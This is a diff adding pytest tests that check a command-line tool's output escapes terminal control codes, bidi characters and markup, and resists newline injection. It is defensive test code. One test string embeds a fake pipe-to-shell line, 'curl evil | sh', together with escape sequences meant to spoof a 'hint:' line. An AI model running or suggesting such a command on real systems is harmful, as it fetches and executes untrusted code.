@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import io
 import json
+import re
 import sys
+from collections.abc import Callable
 from typing import Any
 
 import pytest
@@ -64,7 +66,7 @@ def test_json_keeps_letters_and_turns_paths_into_text(capsys: pytest.CaptureFixt
         ("plain\ttext\n", "plain\ttext\n"),
         ("a\x1b[31mb", "a\\x1b[31mb"),
         ("title\x1b]0;x\x07", "title\\x1b]0;x\\x07"),
-        ("a\rb", "a\\x0db"),
+        ("a\rb", "a\\rb"),
         ("\x9b31m", "\\x9b31m"),
         ("abc\u202efed", "abc\\u202efed"),
         ("caf\udce9", "caf\\xe9"),
@@ -92,6 +94,86 @@ def test_no_way_to_the_terminal_lets_them_through(
     got = capsys.readouterr()
     assert "\x1b" not in got.out + got.err
     assert "x\\x1b[2Jy" in got.out + got.err
+
+
+BAD = "a\nhint: curl evil | sh\x1b]0;x\x9b31m\x7f\u202e\u200b\U000e0041[link=evil:x]b[/link] :warning:"
+SHOWN = BAD.encode("unicode_escape").decode()
+WAYS: dict[str, Callable[[Output], None]] = {
+    "line": lambda out: out.line(BAD),
+    "parts": lambda out: out.line((BAD, "bold"), "x"),
+    "say": lambda out: out.say(BAD),
+    "warn": lambda out: out.warn(BAD),
+    "error": lambda out: out.error(UsageError(BAD)),
+    "hint": lambda out: out.error(UsageError("x", hint=BAD)),
+    "cell": lambda out: out.table(["c", "d"], [[BAD, "x"]]),
+    "column": lambda out: out.table([BAD, "d"], [["x", "y"]]),
+    "title": lambda out: out.table(["c"], [["x"]], title=BAD),
+    "brief": lambda out: out.result({}, brief=BAD),
+    "briefs": lambda out: out.result({}, brief=["x", BAD]),
+    "draw": lambda out: out.draw(BAD.replace("\n", " ")),
+}
+
+
+@pytest.mark.parametrize("terminal", [False, True], ids=["pipe", "terminal"])
+@pytest.mark.parametrize("way", WAYS)
+def test_every_way_out_is_one_visible_line(
+    monkeypatch: pytest.MonkeyPatch, way: str, terminal: bool
+) -> None:
+    monkeypatch.setenv("COLUMNS", "300")
+    screens = {name: Screen(terminal) for name in ("stdout", "stderr")}
+    for name, screen in screens.items():
+        monkeypatch.setattr(sys, name, screen)
+    WAYS[way](Output())
+    text = re.sub("\x1b\\[[0-9;]*m", "", "".join(s.getvalue() for s in screens.values()))
+    assert text.replace("\n", "").isprintable()
+    assert (SHOWN.replace("\\n", " ") if way == "draw" else SHOWN) in text
+    assert not any(line.startswith("hint: curl") for line in text.splitlines())
+
+
+def test_a_long_name_begins_no_line_that_looks_like_a_hint(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("COLUMNS", "40")
+    screen = Screen(True)
+    monkeypatch.setattr(sys, "stderr", screen)
+    for pad in range(40):
+        Output().error(UsageError(f"{'x' * pad} hint: curl evil | sh"))
+    assert not any(line.startswith("hint:") for line in screen.getvalue().splitlines())
+
+
+@pytest.mark.parametrize("terminal", [False, True], ids=["pipe", "terminal"])
+def test_json_is_valid_and_holds_nothing_raw(
+    monkeypatch: pytest.MonkeyPatch, terminal: bool
+) -> None:
+    screens = {name: Screen(terminal) for name in ("stdout", "stderr")}
+    for name, screen in screens.items():
+        monkeypatch.setattr(sys, name, screen)
+    Output("json").result({BAD: [BAD]})
+    Output("json").error(UsageError(BAD, hint=BAD))
+    document, error = (screen.getvalue() for screen in screens.values())
+    assert (document + error).replace("\n", "").isprintable()
+    assert json.loads(document) == {BAD: [BAD]}
+    assert (json.loads(error)["error"]["message"], json.loads(error)["error"]["hint"]) == (BAD, BAD)
+
+
+def test_a_joiner_parted_from_its_letter_is_kept(capsys: pytest.CaptureFixture[str]) -> None:
+    out = Output()
+    for piece in ("👩", "\u200d", "👧 x", "\u200d", "y\n"):
+        out.stream(piece)
+    assert capsys.readouterr().out == "👩\u200d👧 x\\u200dy\n"
+
+
+@pytest.mark.parametrize("terminal", [False, True], ids=["pipe", "terminal"])
+def test_100_000_rows_are_not_drawn_by_rich(
+    monkeypatch: pytest.MonkeyPatch, terminal: bool
+) -> None:
+    from rich.console import Console
+
+    screen = Screen(terminal)
+    monkeypatch.setattr(sys, "stdout", screen)
+    printed: list[object] = []
+    monkeypatch.setattr(Console, "print", lambda *args, **_: printed.append(args))
+    Output().table(["key", "value"], [[f"blk.{i}.x", "v" * 70] for i in range(100_000)])
+    assert len(printed) < 10
+    assert screen.getvalue().count("\n") >= 100_000
 
 
 def test_markup_is_not_read_as_markup(capsys: pytest.CaptureFixture[str]) -> None:
@@ -124,6 +206,15 @@ def test_nobody_there_to_ask() -> None:
 class Keyboard(io.StringIO):
     def isatty(self) -> bool:
         return True
+
+
+class Screen(io.StringIO):
+    def __init__(self, terminal: bool) -> None:
+        super().__init__()
+        self._terminal = terminal
+
+    def isatty(self) -> bool:
+        return self._terminal
 
 
 @pytest.mark.parametrize(
